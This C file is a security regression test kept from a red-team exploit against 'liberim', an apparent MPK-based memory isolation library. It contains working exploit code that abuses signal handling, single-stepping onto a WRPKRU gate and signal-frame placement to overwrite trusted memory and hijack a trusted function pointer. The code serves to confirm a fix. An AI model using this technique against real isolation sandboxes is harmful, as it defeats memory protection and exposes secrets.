/* SPDX-License-Identifier: MIT */
/* rt_ownentry.c: red team 50 (its program, kept as the regression test; it
 * worked against the liberim of its round, on 6.1 and 6.12, uid 0 and 1000;
 * do_sigaction now installs liberim's own handlers as liberim does) --
 * liberim's sigaction() installed liberim's
 * OWN handler entry unwrapped, so the kernel writes a signal frame below an
 * attacker-set %rsp, into trusted globals, again (6.1: with the PKRU a jump
 * onto a gate's WRPKRU loaded; 6.12: with every key enabled).
 *
 * runtime/erim_signal.c do_sigaction(): a handler that liberims_own() calls
 * liberim's own (the trampoline, the SIGSEGV handler, or tab.entry --
 * erim__sig_entry_u on 6.1, erim__sig_entry on 6.12) is passed to the kernel
 * as given: no SA_ONSTACK added, the caller's flags and mask.  Its address is
 * what sigaction(SIGSEGV, NULL, &old) reports (liberim's SIGSEGV handler was
 * moved behind the entry, and the query returns the kernel's handler for it).
 * So untrusted code installs the entry for SIGTRAP WITHOUT SA_ONSTACK; the
 * kernel then enters it on the interrupted %rsp, not on liberim's signal
 * stack, writing the frame there first.
 *
 * The single step onto the gate's WRPKRU (red team 49) is set up without
 * POPF: an ordinary SIGUSR1 handler (behind liberim's trampoline) edits its
 * ucontext -- RIP = the WRPKRU site, RSP = inside trusted globals, every
 * register = the attacker's value, EAX = ECX = EDX = 0, TF set -- and
 * returns through liberim's own restorer.  WRPKRU runs (PKRU := 0), the trap
 * comes before the check, the frame goes below RSP into the trusted globals.
 * A second thread calling through a gate sees the change before the process
 * stops.
 *
 *   rt_ownentry mpk             ATTACK (write): the trusted balance becomes
 *                                 0x4141414141414141
 *   rt_ownentry mpk exec        ATTACK (exec): a trusted function pointer
 *                                 becomes the attacker's function, which runs
 *                                 with the trusted PKRU and reads the secret
 *   rt_ownentry mpk ownhandler  CONTROL: the same, but SIGTRAP's handler is
 *                                 the attacker's own (liberim wraps it with
 *                                 SA_ONSTACK): blocked by the relay
 *   rt_ownentry mpk nowrpkru    CONTROL: liberim's entry as above, but the
 *                                 jump goes to a NOP (6.1: the hardware refuses
 *                                 the frame; 6.12: written anyway)
 *   ... uid1000                   any of the above after dropping to uid 1000
 * Exit 1 when the attack WORKED, 0 when blocked, 2 on set-up failure. */
#include <cpuid.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>
#include <grp.h>

#include "erim.h"
#include "gw_erim.h"
#include "gw_trusted.h"

#define INIT_BALANCE 1000u
#define ATTACK_VALUE 0x4141414141414141ull
#define SECRET 0x5345435245542d31ull   /* "1-TERCES" */
#define ATTEMPTS 10

/* ---- trusted side ---------------------------------------------------------- */

static ERIM_TRUSTED struct {
	uint64_t lo[128];
	volatile uint64_t balance;
	uint64_t hi[895];
} gw_t = { .balance = INIT_BALANCE };

static uint64_t mix(uint64_t x)
{
	x ^= x >> 33;
	x *= 0xff51afd7ed558ccdull;
	return x ^ (x >> 33);
}

static ERIM_TRUSTED struct {
	uint64_t secret;
	uint64_t lo[127];
	uint64_t (*volatile impl)(uint64_t);
	uint64_t hi[895];
} ge_t = { .secret = SECRET, .impl = mix };

uint64_t gw_get_impl(void)
{
	return gw_t.balance;
}

uint64_t gw_hash_impl(uint64_t x)
{
	return ge_t.impl(x);
}

/* ---- untrusted side -------------------------------------------------------- */

struct shared {
	volatile uint64_t seen, iters, leak, leak_pkru;
	volatile int ready, stop, fired, survived;
	volatile uint64_t target, rsp, site, entry, trap_flags, trap_handler;
};
static struct shared *sh;
static int use_exec, use_nowrpkru, use_direct, use_control, use_own;

static int ospke;

static uint64_t evil(uint64_t x)
{
	uint32_t eax = 0xffffffffu, edx;

	if (ospke)
		__asm__ volatile("rdpkru" : "=a"(eax), "=d"(edx) : "c"(0));
	sh->leak_pkru = eax;
	sh->leak = ge_t.secret;       /* a trusted global, read by untrusted code */
	sh->seen = 1;
	return x;
}

/* gw_fire(rip, rsp, v, eax): every general register := v (RSI := RSP, R11 :=
 * RIP), EAX := eax, ECX = EDX = 0; then RFLAGS.TF := 1 (POPF), RSP := rsp and
 * a jump to RIP.  With TF set every instruction traps: the traps after the
 * MOV to RSP and after the JMP go to the program's SIGTRAP handler on its own
 * (untrusted) sigaltstack, which returns unchanged; at the second it takes
 * SA_ONSTACK away, so the trap after the instruction at RIP -- the gate's
 * WRPKRU -- has its frame written below RSP.  (On real hardware one IRETQ
 * loads RIP, RSP and TF at once; QEMU's TCG performs IRETQ's stack reads from
 * user mode as supervisor accesses and panics the guest kernel under SMAP,
 * hence the two harmless traps.)  gw_resume: where a handler that returns
 * sends the thread back (none back end). */
uint64_t gw_saved_rsp;
void gw_fire(uint64_t rip, uint64_t rsp, uint64_t v, uint64_t eax);
void gw_resume(void);
void gw_land(void);
__asm__(".text\n\t.globl gw_fire\n\t.type gw_fire,@function\ngw_fire:\n\t"
        "push %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n\t"
        "mov %rsp, gw_saved_rsp(%rip)\n\t"
        "mov %rdi, %r11\n\tmov %rcx, %rax\n\t"
        "mov %rdx, %rbx\n\tmov %rdx, %rbp\n\tmov %rdx, %rdi\n\t"
        "mov %rdx, %r8\n\tmov %rdx, %r9\n\tmov %rdx, %r10\n\t"
        "mov %rdx, %r12\n\tmov %rdx, %r13\n\tmov %rdx, %r14\n\tmov %rdx, %r15\n\t"
        "xorl %ecx, %ecx\n\txorl %edx, %edx\n\t"
        "pushfq\n\torq $0x100, (%rsp)\n\tpopfq\n\t"
        "mov %rsi, %rsp\n\t"
        "jmp *%r11\n\t.size gw_fire, .-gw_fire\n"
        ".globl gw_land\n\t.type gw_land,@function\ngw_land:\n\tnop\n\tnop\n\tud2\n"
        ".globl gw_resume\n\t.type gw_resume,@function\ngw_resume:\n\t"
        "mov gw_saved_rsp(%rip), %rsp\n\t"
        "pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n");


static volatile uint64_t fire_rip, fire_rsp, fire_val, fire_eax;

/* CONTROL handler for SIGTRAP: the attacker's own function, which liberim's
 * sigaction wraps (SA_ONSTACK, its signal stack, the relay) */
static void on_trap(int sig, siginfo_t *si, void *ucv)
{
	(void)sig;
	(void)si;
	(void)ucv;
}

/* SIGUSR1, an ordinary handler behind liberim's trampoline: it edits its
 * ucontext so that liberim's own restorer (rt_sigreturn) lands the thread on
 * the instruction at fire_rip with RSP = fire_rsp, every register = fire_val,
 * EAX = fire_eax, ECX = EDX = 0 and RFLAGS.TF set: one step, then a trap.
 * (No raw system call: the frame's PKRU stays the untrusted one, so the
 * trampoline's check after the handler passes.) */
static void on_usr1(int sig, siginfo_t *si, void *ucv)
{
	ucontext_t *uc = ucv;
	greg_t *g = uc->uc_mcontext.gregs;

	(void)sig;
	(void)si;
	g[REG_R8] = g[REG_R9] = g[REG_R10] = g[REG_R11] = (greg_t)fire_val;
	g[REG_R12] = g[REG_R13] = g[REG_R14] = g[REG_R15] = (greg_t)fire_val;
	g[REG_RDI] = g[REG_RSI] = g[REG_RBP] = g[REG_RBX] = (greg_t)fire_val;
	g[REG_RAX] = (greg_t)fire_eax;
	g[REG_RCX] = 0;
	g[REG_RDX] = 0;
	g[REG_RSP] = (greg_t)fire_rsp;
	g[REG_RIP] = (greg_t)fire_rip;
	g[REG_EFL] |= 0x100;
}

static void *reader(void *arg)
{
	(void)arg;
	while (!sh->stop) {
		if (use_exec) {
			(void)gw_hash(sh->iters);
		} else {
			uint64_t v = gw_get();

			if (v != INIT_BALANCE && !sh->seen)
				sh->seen = v;
		}
		sh->iters++;
		if (sh->iters > 100)
			sh->ready = 1;
	}
	return NULL;
}

/* the gate's first WRPKRU: erim_gate_call dispatches to erim__gate_mpk, whose
 * entry (TLS hint, then ENTER_T) holds the first 0f 01 ef after it */
static uintptr_t find_site(void)
{
	const unsigned char *p = (const unsigned char *)(uintptr_t)erim_gate_call;

	for (int i = 0; i < 4096; i++)
		if (p[i] == 0x0f && p[i + 1] == 0x01 && p[i + 2] == 0xef)
			return (uintptr_t)(p + i);
	return 0;
}

static int child(void)
{
	pthread_t t;
	unsigned a, b, c, d;
	uint64_t target, fp, rsp, xsize, value, rip;

	if (erim_init(NULL) != 0) {
		fprintf(stderr, "erim_init failed: %s\n", erim_strerror());
		return 2;
	}
	printf("rt_ownentry: pkey %d, balance through the gate: %llu\n", erim_pkey(),
	       (unsigned long long)gw_get());
	fflush(stdout);
	if (pthread_create(&t, NULL, reader, NULL) != 0)
		return 2;
	while (!sh->ready)
		;
	if (!__get_cpuid_count(0xd, 0, &a, &b, &c, &d) || b == 0)
		return 2;
	xsize = b;
	ospke = __get_cpuid_count(7, 0, &a, &b, &c, &d) && (c & (1u << 4));
	if (use_exec) {
		target = (uint64_t)(uintptr_t)&ge_t.impl;
		value = (uint64_t)(uintptr_t)evil;
	} else {
		target = (uint64_t)(uintptr_t)&gw_t.balance;
		value = ATTACK_VALUE;
	}
	/* kernel's get_sigframe: below the 128-byte red zone the XSAVE image
	 * (xsize + 4, 64-aligned), below it the 440-byte rt_sigframe (16-aligned
	 * minus 8), r8..rbx at 48..136 from its start: put the target there */
	fp = (target + 288 + 64) & ~63ull;
	rsp = fp + 128 + xsize + 4;
	rip = use_nowrpkru ? (uint64_t)(uintptr_t)gw_land : (uint64_t)find_site();
	sh->target = target;
	sh->rsp = rsp;
	sh->site = rip;
	if (!rip)
		return 2;
	if (use_direct) {
		sh->seen = *(volatile uint64_t *)&gw_t.balance;
		sh->survived = 1;
		sh->stop = 1;
		pthread_join(t, NULL);
		return 0;
	}
	{
		struct sigaction sa, cur;

		/* liberim's own handler entry, as sigaction() reports it for
		 * SIGSEGV (liberim's segv handler moved behind the entry) */
		memset(&cur, 0, sizeof cur);
		if (sigaction(SIGSEGV, NULL, &cur) != 0)
			return 2;
		sh->entry = (uint64_t)(uintptr_t)cur.sa_sigaction;
		memset(&sa, 0, sizeof sa);
		/* THE DECISIVE STEP: liberim's own entry handed back to sigaction()
		 * for SIGTRAP without SA_ONSTACK -- liberims_own() lets it through
		 * unwrapped, flags as given.  CONTROL (ownhandler): the attacker's
		 * own handler, which liberim installs with SA_ONSTACK. */
		sa.sa_sigaction = use_own ? on_trap : cur.sa_sigaction;
		sa.sa_flags = SA_SIGINFO;
		if (sigaction(SIGTRAP, &sa, NULL) != 0)
			return 2;
		{
			struct sigaction k;

			memset(&k, 0, sizeof k);
			sigaction(SIGTRAP, NULL, &k);
			sh->trap_flags = (uint64_t)k.sa_flags;
			sh->trap_handler = (uint64_t)(uintptr_t)k.sa_sigaction;
		}
		memset(&sa, 0, sizeof sa);
		sa.sa_sigaction = on_usr1;
		sa.sa_flags = SA_SIGINFO;
		if (sigaction(SIGUSR1, &sa, NULL) != 0)
			return 2;
	}
	fire_rip = rip;
	fire_rsp = rsp;
	fire_val = value;
	fire_eax = 0;
	sh->fired = 1;
	raise(SIGUSR1);
	sh->survived = 1;
	for (int i = 0; i < 2000000 && !sh->seen; i++)
		__asm__ volatile("pause");
	sh->stop = 1;
	pthread_join(t, NULL);
	return 0;
}

static char errlog[65536];
static size_t errlen;

int main(int argc, char **argv)
{
	struct sigaction sa;
	struct utsname u;
	pid_t pid;
	int st = 0, worked, pfd[2];

	if (argc < 2) {
		fprintf(stderr, "usage: %s mpk|none [exec] [nowrpkru] [direct] [control]\n", argv[0]);
		return 2;
	}
	setenv("ERIM_BACKEND", argv[1], 1);
	for (int i = 2; i < argc; i++) {
		if (!strcmp(argv[i], "exec"))
			use_exec = 1;
		else if (!strcmp(argv[i], "nowrpkru"))
			use_nowrpkru = 1;
		else if (!strcmp(argv[i], "direct"))
			use_direct = 1;
		else if (!strcmp(argv[i], "control"))
			use_control = 1;
		else if (!strcmp(argv[i], "ownhandler"))
			use_own = 1;
		else if (!strcmp(argv[i], "uid1000")) {
			/* drop to an ordinary user first: nothing here needs root */
			if (setgroups(0, NULL) != 0 || setresgid(1000, 1000, 1000) != 0 ||
			    setresuid(1000, 1000, 1000) != 0)
				return 2;
		}
		else
			return 2;
	}
	uname(&u);
	printf("rt_ownentry: kernel %s, back end %s, uid %d, %s%s%s\n", u.release, argv[1],
	       (int)getuid(), use_exec ? "exec" : "write", use_nowrpkru ? ", CONTROL (no WRPKRU)" : "",
	       use_direct ? ", direct load" : "");
	if (use_own)
		printf("rt_ownentry: CONTROL: the attacker's own SIGTRAP handler (liberim wraps it)\n");
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		return 2;
	(void)sa;
	for (int attempt = 1; attempt <= ATTEMPTS; attempt++) {
		memset((void *)sh, 0, sizeof *sh);
		errlen = 0;
		if (pipe(pfd) != 0)
			return 2;
		fflush(stdout);
		pid = fork();
		if (pid < 0)
			return 2;
		if (pid == 0) {
			close(pfd[0]);
			dup2(pfd[1], 2);
			_exit(child());
		}
		close(pfd[1]);
		for (;;) {
			ssize_t n = read(pfd[0], errlog + errlen, sizeof errlog - 1 - errlen);

			if (n <= 0)
				break;
			errlen += (size_t)n;
		}
		errlog[errlen] = 0;
		close(pfd[0]);
		waitpid(pid, &st, 0);
		printf("rt_ownentry: attempt %d: child %s %d; reader %llu gate calls; site %#llx "
		       "target %#llx rsp %#llx; survived %s; seen %#llx; liberim's entry %#llx; SIGTRAP "
		       "installed: handler %#llx flags %#llx\n", attempt,
		       WIFSIGNALED(st) ? "killed by signal" : "exited",
		       WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st),
		       (unsigned long long)sh->iters, (unsigned long long)sh->site,
		       (unsigned long long)sh->target, (unsigned long long)sh->rsp,
		       sh->survived ? "yes" : "no", (unsigned long long)sh->seen,
		       (unsigned long long)sh->entry, (unsigned long long)sh->trap_handler,
		       (unsigned long long)sh->trap_flags);
		if (errlen)
			printf("rt_ownentry: child's stderr: %s", errlog);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 2) {
			printf("rt_ownentry: the child could not set itself up\n");
			return 2;
		}
		if (sh->seen || use_direct)
			break;
	}
	if (use_direct) {
		printf("rt_ownentry: direct load %s (%#llx)\n",
		       sh->survived ? "READ the balance" : "BLOCKED", (unsigned long long)sh->seen);
		return sh->survived ? 1 : 0;
	}
	if (use_exec)
		worked = sh->leak == SECRET;
	else
		worked = sh->seen == ATTACK_VALUE;
	if (worked && use_exec)
		printf("rt_ownentry: ATTACK WORKED: the attacker's function ran with PKRU %#llx and "
		       "read the trusted secret %#llx\n", (unsigned long long)sh->leak_pkru,
		       (unsigned long long)sh->leak);
	else if (worked)
		printf("rt_ownentry: ATTACK WORKED: the trusted side returned %#llx (trusted memory "
		       "written)\n", (unsigned long long)sh->seen);
	else
		printf("rt_ownentry: BLOCKED (seen %#llx)\n", (unsigned long long)sh->seen);
	if (use_control)
		return worked ? 0 : 1;
	return worked ? 1 : 0;
}
